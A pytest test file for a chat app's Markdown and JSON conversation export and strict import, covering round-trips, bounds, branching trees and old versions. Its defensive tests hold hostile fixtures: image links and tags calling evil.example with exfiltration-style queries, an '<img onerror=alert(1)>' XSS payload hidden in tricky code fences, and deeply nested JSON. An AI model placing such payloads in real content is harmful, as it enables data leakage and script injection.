"""Export to Markdown and JSON (the whole tree, with parts), and a strict import that only parses and bounds
every number and date; version-1 files still import."""

from __future__ import annotations

import ast
import builtins
import copy
import json
import re
import sqlite3
from datetime import timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qwenchat import transfer
from qwenchat.conversation import (
    COMPLETE,
    FAILED,
    STOPPED,
    STREAMING,
    WITHDRAWN,
    Conversation,
    Message,
    Part,
    Usage,
)
from qwenchat.i18n import MESSAGES, t
from qwenchat.sanitize import clean_user_text
from qwenchat.store import MemoryStore
from qwenchat.transfer import InvalidImport, from_json, to_json, to_markdown

HAN = re.compile(r"[\u3400-\u9fff]")


def sample() -> Conversation:
    c = Conversation(model="qwen-max", system_prompt="用中文回答", title="春天的诗 🌸", created_at=1700000000.5)
    c.messages = [
        Message("user", "写一首关于春天的诗 ✍️", created_at=1700000001.25),
        Message("assistant", "春眠不觉晓，处处闻啼鸟。🐦", reasoning="用户想要一首五言绝句", model="qwen-max",
                usage=Usage(12, 34, 46, reasoning_tokens=7, cached_tokens=3), created_at=1700000002.75),
        Message("user", "再来一首", created_at=1700000003.0),
        Message("assistant", "夜来风雨声", status=STOPPED, model="qwen-plus", usage=Usage(1, 2, 3, estimated=True)),
        Message("assistant", "MODERATED TEXT", status=WITHDRAWN, reasoning="MODERATED THOUGHT",
                error="data_inspection_failed", model="qwen-plus"),
        Message("assistant", "", status=FAILED, error="rate_limit", model="qwen-plus"),
    ]
    return c


def without_ids(c: Conversation) -> dict:
    """The conversation as data, ids left out (an import makes fresh ones): parents as positions instead."""
    data = c.to_dict()
    position = {m["id"]: (branch, i) for branch in ("messages", "hidden") for i, m in enumerate(data[branch])}
    del data["id"], data["version"]
    for branch in ("messages", "hidden"):
        for m in data[branch]:
            m["parent_id"] = position.get(m["parent_id"])
            del m["id"]
    return data


# ---- Markdown ----

def test_markdown_has_the_header_and_both_turns():
    md = to_markdown(sample())
    assert md.startswith("# 春天的诗 🌸\n")
    assert "qwen-max" in md and "2023-11-14 22:13 UTC" in md
    assert md.count("## 用户\n") == 2  # a Chinese conversation: Chinese headings
    assert md.count("## 助手") == 4 and "- 模型：qwen-max" in md and "User" not in md
    assert "写一首关于春天的诗 ✍️" in md and "春眠不觉晓，处处闻啼鸟。🐦" in md and "再来一首" in md
    assert "<details>" in md and "用户想要一首五言绝句" in md  # reasoning folded away
    assert "> 用中文回答" in md


def test_markdown_notes_statuses_and_hides_withdrawn_text():
    md = to_markdown(sample())
    assert "夜来风雨声" in md and "*（已停止）*" in md
    assert "*（此回复已撤回）*" in md
    assert "MODERATED" not in md and "data_inspection_failed" not in md
    assert "*（请求失败 (rate_limit)）*" in md
    streaming = Conversation(messages=[Message("assistant", "半句", status=STREAMING)])
    assert "回复未完成" in to_markdown(streaming)


def test_markdown_of_an_untitled_empty_conversation():
    assert to_markdown(Conversation(system_prompt="")).startswith("# 对话\n")  # no words: Chinese


def test_markdown_headings_follow_the_conversations_language():
    c = Conversation(model="qwen-max", system_prompt="Be brief", messages=[
        Message("user", "Write a poem about spring"),
        Message("assistant", "Spring rain", reasoning="a short one", status=STOPPED, model="qwen-max")])
    md = to_markdown(c)
    assert "## User" in md and "## Assistant" in md and "- Model: qwen-max" in md and "**System prompt**" in md
    assert "<summary>Reasoning</summary>" in md and "*(Stopped before the end)*" in md
    assert not HAN.search(md)
    assert to_markdown(Conversation(messages=[])).startswith("# " + t("export.md.conversation", "zh"))
    assert "## 用户" in to_markdown(c, lang="zh")


# ---- JSON export ----

def test_json_envelope_has_exactly_the_documented_keys():
    data = json.loads(to_json(sample()))
    assert list(data) == list(transfer.ENVELOPE_KEYS)
    assert data["format"] == "qwenchat.conversation" and data["version"] == 4
    assert data["exported_at"].endswith("Z")
    assert list(data["conversation"]) == list(transfer.CONVERSATION_KEYS)
    for m in data["conversation"]["messages"]:
        assert list(m) == list(transfer.MESSAGE_KEYS)
        assert m["usage"] is None or list(m["usage"]) == list(transfer.USAGE_KEYS)


def all_keys(value) -> set[str]:
    if isinstance(value, dict):
        return set(value) | {k for v in value.values() for k in all_keys(v)}
    if isinstance(value, list):
        return {k for v in value for k in all_keys(v)}
    return set()


def test_json_has_both_turns_and_no_key_field():
    c = sample()
    c.messages[0].content = "my key is sk-0123456789abcdef"  # text is the user's; fields are ours
    text = to_json(c)
    keys = all_keys(json.loads(text))
    assert "api_key" not in keys and not [k for k in keys if "key" in k.lower()]
    assert "写一首关于春天的诗" not in text  # replaced above
    assert "春眠不觉晓" in text and "sk-0123456789abcdef" in text


def test_json_never_carries_withdrawn_text():
    text = to_json(sample())
    assert "MODERATED" not in text
    withdrawn = json.loads(text)["conversation"]["messages"][4]
    assert withdrawn["status"] == WITHDRAWN and withdrawn["content"] == "" and withdrawn["reasoning"] == ""


# ---- JSON import ----

def test_round_trip_with_fresh_ids():
    c = sample()
    back = from_json(to_json(c))
    expected = copy.deepcopy(c)
    expected.messages[4].content = expected.messages[4].reasoning = ""
    assert without_ids(back) == without_ids(expected)
    assert back.id != c.id
    assert not {m.id for m in back.messages} & {m.id for m in c.messages}
    again = from_json(to_json(c))
    assert again.id != back.id


def test_import_accepts_bytes_str_and_a_bom():
    text = to_json(sample())
    for data in (text, text.encode(), b"\xef\xbb\xbf" + text.encode()):
        assert from_json(data).title == "春天的诗 🌸"


def valid() -> dict:
    return json.loads(to_json(sample()))


def edited(change) -> str:
    data = valid()
    change(data)
    return json.dumps(data, ensure_ascii=False)


def setitem(path, value):
    def change(data):
        *parents, last = path
        for p in parents:
            data = data[p]
        data[last] = value
    return change


def delitem(path):
    def change(data):
        *parents, last = path
        for p in parents:
            data = data[p]
        del data[last]
    return change


M0 = ("conversation", "messages", 0)
BAD_FILES = {
    "not json": b"this is not json",
    "truncated json": to_json(sample())[:-10],
    "not utf-8": b"\xff\xfe{\x00}\x00",
    "NaN": to_json(sample()).replace('"created_at": 1700000000.5', '"created_at": NaN'),
    "a list": "[]",
    "a string": '"qwenchat.conversation"',
    "wrong format": edited(setitem(("format",), "chatgpt.export")),
    "no format": edited(delitem(("format",))),
    "version 5": edited(setitem(("version",), 5)),
    "version as string": edited(setitem(("version",), "1")),
    "version true": edited(setitem(("version",), True)),
    "no exported_at": edited(delitem(("exported_at",))),
    "no conversation": edited(delitem(("conversation",))),
    "conversation is a list": edited(setitem(("conversation",), [])),
    "unknown envelope field": edited(setitem(("api_key",), "sk-x")),
    "unknown conversation field": edited(setitem(("conversation", "api_key"), "sk-x")),
    "no messages": edited(delitem(("conversation", "messages"))),
    "messages not a list": edited(setitem(("conversation", "messages"), {})),
    "title a number": edited(setitem(("conversation", "title"), 3)),
    "closed a string": edited(setitem(("conversation", "closed"), "yes")),
    "created_at a string": edited(setitem(("conversation", "created_at"), "2024-01-01")),
    "created_at negative": edited(setitem(("conversation", "created_at"), -1)),
    "created_at huge": edited(setitem(("conversation", "created_at"), 10**30)),
    "message not an object": edited(setitem(M0, "hello")),
    "message without role": edited(delitem((*M0, "role"))),
    "message content null": edited(setitem((*M0, "content"), None)),
    "unknown role": edited(setitem((*M0, "role"), "system")),
    "unknown status": edited(setitem((*M0, "status"), "done")),
    "unknown message field": edited(setitem((*M0, "api_key"), "sk-x")),
    "usage a list": edited(setitem((*M0, "usage"), [1, 2])),
    "usage negative": edited(setitem(("conversation", "messages", 1, "usage", "total_tokens"), -5)),
    "usage float": edited(setitem(("conversation", "messages", 1, "usage", "total_tokens"), 1.5)),
    "usage estimated not bool": edited(setitem(("conversation", "messages", 1, "usage", "estimated"), 0)),
    "usage missing field": edited(delitem(("conversation", "messages", 1, "usage", "cached_tokens"))),
    "too many messages": edited(setitem(("conversation", "messages"), [valid()["conversation"]["messages"][0]] * 5001)),
    "too large": to_json(sample()).replace("再来一首", "长" * (2 * 1024 * 1024)),
}


@pytest.mark.parametrize("case", BAD_FILES)
def test_bad_files_are_refused_with_a_catalog_reason_in_either_language(case):
    with pytest.raises(InvalidImport) as refused:
        from_json(BAD_FILES[case])
    assert refused.value.reason.id in MESSAGES
    assert refused.value.message("zh").startswith("导入失败：") and "Import failed" not in refused.value.message("zh")
    assert refused.value.message("en").startswith("Import failed: ") and not HAN.search(refused.value.message("en"))


def test_the_messages_say_what_is_wrong():
    def reason(data):
        with pytest.raises(InvalidImport) as refused:
            from_json(data)
        return refused.value.message("zh") + "\n" + refused.value.message("en")

    assert reason(BAD_FILES["not json"]) == "导入失败：文件不是有效的 JSON\nImport failed: not valid JSON"
    assert "版本" in reason(BAD_FILES["version 5"]) and "unsupported version 5" in reason(BAD_FILES["version 5"])
    assert "'system'" in reason(BAD_FILES["unknown role"]) and "第 1 条消息" in reason(BAD_FILES["unknown role"])
    assert "2 MB" in reason(BAD_FILES["too large"])
    assert "5000" in reason(BAD_FILES["too many messages"])
    assert "api_key" in reason(BAD_FILES["unknown message field"])


def test_exactly_the_limits_are_accepted():
    data = valid()
    first = data["conversation"]["messages"][0]
    data["conversation"]["messages"] = [{**first, "parent": i - 1 if i else None} for i in range(5000)]
    data["conversation"]["leaf"] = 4999
    assert len(from_json(json.dumps(data)).messages) == 5000


def test_import_only_parses(monkeypatch):
    source = Path(transfer.__file__).read_text()
    imported = {n.module for n in ast.walk(ast.parse(source)) if isinstance(n, ast.ImportFrom)}
    imported |= {a.name for n in ast.walk(ast.parse(source)) if isinstance(n, ast.Import) for a in n.names}
    assert not {"qwenchat.store", "sqlite3", "os", "pathlib"} & imported

    def forbidden(*args, **kwargs):
        raise AssertionError("from_json touched a file or a database")

    store = MemoryStore()
    monkeypatch.setattr(builtins, "open", forbidden)
    monkeypatch.setattr(sqlite3, "connect", forbidden)
    for data in BAD_FILES.values():
        with pytest.raises(InvalidImport):
            from_json(data)
    assert from_json(to_json(sample())).title
    assert store.list_conversations("alice") == []


# ---- properties ----

texts = st.text(max_size=100).map(clean_user_text)  # an import cleans text as the chat input does
messages = st.builds(
    Message, role=st.sampled_from(["user", "assistant"]), content=texts,
    status=st.sampled_from([COMPLETE, STREAMING, STOPPED, FAILED]), reasoning=texts, error=texts, model=texts,
    usage=st.none() | st.builds(Usage, *[st.integers(0, 10**12)] * 5, st.booleans()),
    created_at=st.floats(transfer.EARLIEST, transfer.LATEST, exclude_max=True),
)


@settings(max_examples=60, deadline=None)
@given(title=texts, system_prompt=texts, closed=st.booleans(), msgs=st.lists(messages, max_size=5))
def test_any_conversation_survives_export_and_import(title, system_prompt, closed, msgs):
    c = Conversation(model="qwen-turbo", system_prompt=system_prompt, title=title, closed=closed, messages=msgs)
    assert without_ids(from_json(to_json(c))) == without_ids(c)
    to_markdown(c)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=200) | json_values.map(json.dumps))
def test_garbage_only_ever_raises_invalid_import(data):
    with pytest.raises(InvalidImport):
        from_json(data)


@settings(max_examples=150, deadline=None)
@given(path=st.lists(st.sampled_from(["conversation", "messages", 0, 1, "usage", "role", "title", "version",
                                      "total_tokens", "created_at", "closed"]), min_size=1, max_size=4),
       value=json_values)
def test_a_damaged_export_imports_or_raises_invalid_import(path, value):
    data = valid()
    target = data
    try:
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = value
    except (KeyError, IndexError, TypeError):
        return
    try:
        from_json(json.dumps(data))
    except InvalidImport:
        pass


def test_an_import_with_a_lone_surrogate_can_be_saved(tmp_path):
    from qwenchat.store import Store

    c = Conversation()
    c.add_user("ok")
    data = json.loads(to_json(c))
    data["conversation"]["messages"][0]["content"] = "bad \ud800 text\u202e"
    imported = from_json(json.dumps(data))
    store = Store(tmp_path / "c.db")
    store.save_conversation("owner", imported)
    assert store.load("owner", imported.id).messages[0].content == "bad \ufffd text"


# ---- the tree, parts, and older files ----

def branched() -> Conversation:
    c = Conversation(model="qwen-plus", system_prompt="", title="分支")
    question = c.add_user("写一首诗")
    question.parts = [Part("image", data={"url": "https://example.com/a.png", "size": [640, 480]})]
    old = c.start_reply("qwen-plus")
    old.content, old.status = "旧的诗", COMPLETE
    c.regenerate_point(old.id)
    new = c.start_reply("qwen-max")
    new.content, new.status = "新的诗", COMPLETE
    new.parts = [Part("citation", text="出处", data={"doc": "kb-1", "score": 0.75})]
    c.branch_from(question.id)
    c.add_user("写一首词")
    c.start_reply("qwen-plus").content = "词"
    return c


def test_the_tree_and_its_parts_survive_export_and_import():
    c = branched()
    back = from_json(to_json(c))
    assert without_ids(back) == without_ids(c)
    assert [m.content for m in back.messages] == ["写一首词", "词"]
    assert [m.content for m in back.hidden] == ["写一首诗", "旧的诗", "新的诗"]
    poem = back.hidden[0]
    assert [m.content for m in back.siblings(back.messages[0].id)] == ["写一首诗", "写一首词"]
    back.switch_to(poem.id)
    assert [m.content for m in back.messages] == ["写一首诗", "新的诗"]
    assert back.messages[0].parts == [Part("image", data={"url": "https://example.com/a.png", "size": [640, 480]})]
    assert back.messages[1].parts[0].text == "出处"
    parents = [m["parent"] for m in json.loads(to_json(c))["conversation"]["messages"]]
    assert all(p is None or p < i for i, p in enumerate(parents))


def test_a_version_1_export_still_imports_as_one_chain():
    old = {"format": "qwenchat.conversation", "version": 1, "exported_at": "2025-01-31T08:00:00Z",
           "conversation": {"title": "旧文件", "model": "qwen-plus", "system_prompt": "", "closed": False,
                            "created_at": 1700000000, "messages": [
                                {"role": role, "content": text, "status": "complete", "reasoning": "", "error": "",
                                 "model": "", "usage": None, "created_at": 1700000000 + n}
                                for n, (role, text) in enumerate([("user", "q1"), ("assistant", "a1"),
                                                                  ("user", "q2")])]}}
    c = from_json(json.dumps(old))
    assert [m.content for m in c.messages] == ["q1", "a1", "q2"] and c.hidden == []
    assert [m.parent_id for m in c.messages] == ["", c.messages[0].id, c.messages[1].id]
    old["conversation"]["messages"][0]["parts"] = []  # a version 1 file has no parts
    with pytest.raises(InvalidImport):
        from_json(json.dumps(old))


def test_markdown_shows_only_the_visible_branch():
    md = to_markdown(branched())
    assert "写一首词" in md and "写一首诗" not in md and "旧的诗" not in md


TREE_FILES = {
    "parent after itself": edited(setitem((*M0, "parent"), 0)),
    "parent ahead": edited(setitem(("conversation", "messages", 1, "parent"), 3)),
    "parent a string": edited(setitem(("conversation", "messages", 1, "parent"), "0")),
    "leaf out of range": edited(setitem(("conversation", "leaf"), 6)),
    "leaf a bool": edited(setitem(("conversation", "leaf"), True)),
    "parts not a list": edited(setitem((*M0, "parts"), {})),
    "part of unknown type": edited(setitem((*M0, "parts"), [{"type": "script", "text": "", "data": {}}])),
    "part with an extra field": edited(setitem((*M0, "parts"), [{"type": "file", "text": "", "data": {}, "x": 1}])),
    "part with a huge number": edited(setitem((*M0, "parts"), [{"type": "file", "text": "", "data": {"n": 10**16}}])),
    "too many parts": edited(setitem((*M0, "parts"),
                                     [{"type": "file", "text": "", "data": {}}] * (transfer.MAX_PARTS + 1))),
}


@pytest.mark.parametrize("case", TREE_FILES)
def test_a_broken_tree_is_refused(case):
    with pytest.raises(InvalidImport):
        from_json(TREE_FILES[case])


# ---- every number and date bounded ----

U1 = ("conversation", "messages", 1, "usage")
BOUNDED = {
    "usage past 10**12": (setitem((*U1, "total_tokens"), 10**12 + 1), "1,000,000,000,000"),
    "usage near 2**63": (setitem((*U1, "prompt_tokens"), 2**63 - 1), "1,000,000,000,000"),
    "created_at in 1970": (setitem(("conversation", "created_at"), 0), "2000"),
    "created_at in year 9999": (setitem(("conversation", "created_at"), 253402300799), "2099"),
    "message created_at in 2100": (setitem((*M0, "created_at"), 4102444800), "2099"),
    "exported_at in year 9999": (setitem(("exported_at",), "9999-12-31T23:59:59Z"), "2099"),
    "exported_at not a date": (setitem(("exported_at",), "yesterday"), "exported_at"),
    "model name 10,000 long": (setitem((*M0, "model"), "m" * 10_000), "200"),
}


@pytest.mark.parametrize("case", BOUNDED)
def test_numbers_and_dates_out_of_bounds_are_refused_with_the_limit(case):
    change, limit = BOUNDED[case]
    with pytest.raises(InvalidImport) as refused:
        from_json(edited(change))
    assert limit in refused.value.message("en") and refused.value.message("en").startswith("Import failed: ")
    assert limit in refused.value.message("zh")


def test_the_largest_allowed_numbers_and_dates_import_and_export():
    data = valid()
    data["conversation"]["created_at"] = transfer.LATEST - 1
    data["conversation"]["messages"][1]["usage"] = {**data["conversation"]["messages"][1]["usage"],
                                                    "total_tokens": 10**12, "prompt_tokens": 10**12}
    c = from_json(json.dumps(data))
    assert "2099-12-31" in to_markdown(c) and c.total_usage().total_tokens >= 10**12


def test_markdown_of_a_time_no_calendar_shows_does_not_raise():
    c = Conversation(created_at=253402300799, system_prompt="")  # year 9999: year 10000 east of UTC
    c.add_user("hi")
    assert "?" in to_markdown(c, timezone(timedelta(hours=8)))
    assert to_markdown(Conversation(created_at=float("nan")))


def test_markdown_export_shows_images_of_every_role_as_links():
    c = Conversation(system_prompt="![sys](https://evil.example/s.png)", title="![t](https://evil.example/t.png)")
    c.add_user("看 ![x](https://evil.example/leak?q=secret)")
    reply = c.start_reply("![m](https://evil.example/m.png)")
    reply.content, reply.status, reply.reasoning = "![y](https://evil.example/y.png)", COMPLETE, "![r](http://e/r)"
    md = to_markdown(c)
    assert "![" not in md and md.count("[🖼️ ") == 6



def test_the_markdown_export_loads_nothing_in_a_viewer_that_renders_html():
    # The second review: an editor's preview rendered a reply's <img> tag from the export, and `!![` an image.
    from markdown_it import MarkdownIt

    c = Conversation(system_prompt="<img src='https://evil.example/s.png'>", title="<b>title</b>")
    c.add_user("x <img src=\"https://evil.example/p.png?d=secret\"> and !![y](https://evil.example/q.png)")
    reply = c.start_reply("qwen-plus")
    reply.status, reply.reasoning = COMPLETE, "<iframe src='https://evil.example/r'></iframe>"
    reply.content = "Use `List<String>` here:\n\n```java\nList<String> names = new ArrayList<>();\n```"
    md = to_markdown(c)
    html = MarkdownIt("commonmark").render(md)
    assert "<img" not in html and "<iframe" not in html and "<b>" not in html
    assert "List<String> names = new ArrayList<>();" in md  # a fenced code block as written


X = "<img src=x onerror=alert(1)>"


@pytest.mark.parametrize("user, reply", [
    # The third review: each of these made the first escaping see code where a parser sees none.
    ("q", "````\n```\n````\n" + X),          # a shorter fence inside a longer one
    ("q", "```\n~~~\n```\n" + X),            # a tilde line inside a backtick fence
    ("q", "```a`b\n" + X),                     # a backtick in the info string: no fence at all
    ("q", "a \\`" + X + "`"),                  # an escaped backtick
    ("q", "a ```" + X + "`"),                   # a run of backticks never closed
    ("q", "`x\ny` " + X + " `z`"),             # a code span across lines
    ("```", "```\n" + X),                      # a fence left open by the message before
    ("~~~ " + X, "a"),                          # a heading line that looks like a fence
])
def test_no_construction_of_fences_or_code_spans_lets_a_tag_through_the_export(user, reply):
    from markdown_it import MarkdownIt

    c = Conversation(system_prompt="", title="~~~" + X)
    c.add_user(user)
    answer = c.start_reply("~~~" + X)
    answer.content, answer.status = reply, COMPLETE
    html = MarkdownIt("commonmark").render(to_markdown(c))
    assert "<img" not in html

# ---- files crafted to hurt: deep nesting, a long system prompt ----

def nested(depth: int) -> str:
    """`depth` objects, one inside the other, as JSON text (json.dumps itself stops near 1,000)."""
    return '{"a": ' * depth + "{}" + "}" * depth


def as_version(file: dict, version: int) -> dict:
    """An export as an older version of the app wrote it (2 or 3): without the fields that came later."""
    file["version"] = version
    keys = {2: transfer.CONVERSATION_KEYS_V2, 3: transfer.CONVERSATION_KEYS_V3}[version]
    file["conversation"] = {k: v for k, v in file["conversation"].items() if k in keys}
    return file


def with_first_part(data: str, version: int = 2) -> str:
    file = as_version(valid(), version)
    file["conversation"]["messages"][0]["parts"] = [{"type": "notice", "text": "x", "data": "DATA"}]
    return json.dumps(file).replace('"DATA"', data)


@pytest.mark.parametrize("depth", [500, 900, 5000])
def test_deeply_nested_part_data_is_refused_with_a_clear_message_not_a_recursion_error(depth):
    with pytest.raises(InvalidImport) as refused:
        from_json(with_first_part(nested(depth)))
    assert refused.value.reason.id in ("import.data_too_deep", "import.too_deep")
    assert "nest" in refused.value.message("en") and "嵌套" in refused.value.message("zh")


def test_part_data_as_deep_as_allowed_imports_and_one_level_more_is_refused():
    limit = transfer.MAX_DEPTH_IN_DATA
    back = from_json(with_first_part(nested(limit - 1)))  # the part's own object is the first level
    assert back.messages[0].parts[0].data == json.loads(nested(limit - 1))
    with pytest.raises(InvalidImport) as refused:
        from_json(with_first_part(nested(limit)))
    assert refused.value.reason.id == "import.data_too_deep" and str(limit) in refused.value.message("en")
    assert "message 1" in refused.value.message("en")


def test_a_system_prompt_longer_than_the_settings_box_allows_is_refused():
    file = as_version(valid(), 2)
    file["conversation"]["system_prompt"] = "你好" * 15000  # 30,000 characters, all of them sent on every turn
    with pytest.raises(InvalidImport) as refused:
        from_json(json.dumps(file, ensure_ascii=False))
    assert refused.value.reason.id == "import.system_prompt_too_long"
    assert "8,000" in refused.value.message("en") and "8,000" in refused.value.message("zh")


def test_a_system_prompt_as_long_as_the_settings_box_allows_imports_whole():
    from qwenchat.conversation import SYSTEM_PROMPT_MAX_CHARS

    c = sample()
    c.system_prompt = "长" * SYSTEM_PROMPT_MAX_CHARS
    assert from_json(to_json(c)).system_prompt == c.system_prompt


# ---- generation parameters ----

def test_the_generation_parameters_survive_export_and_import():
    c = sample()
    c.params = {"temperature": 0.3, "seed": 42}
    assert from_json(to_json(c)).params == {"temperature": 0.3, "seed": 42}
    assert from_json(to_json(Conversation())).params == {}


def test_imported_parameters_are_bounded_as_the_settings_page_bounds_them():
    from qwenchat import params

    crafted = {"temperature": 99, "max_tokens": 10**9, "seed": "42", "api_key": "sk-x", "top_p": None}
    back = from_json(edited(setitem(("conversation", "params"), crafted)))
    assert back.params == params.clean(crafted, back.model) == {"temperature": 1.99, "max_tokens": 8192}
    with pytest.raises(InvalidImport) as refused:
        from_json(edited(setitem(("conversation", "params"), [["temperature", 0.3]])))
    assert "params" in refused.value.message("en")


def test_an_export_from_before_parameters_were_exported_still_imports():
    for version in (2, 3):
        back = from_json(json.dumps(as_version(valid(), version)))
        assert back.params == {} and [m.content for m in back.messages][:2] == ["写一首关于春天的诗 ✍️", "春眠不觉晓，处处闻啼鸟。🐦"]
    with pytest.raises(InvalidImport):  # a version 3 file never had them
        from_json(edited(setitem(("version",), 3)))
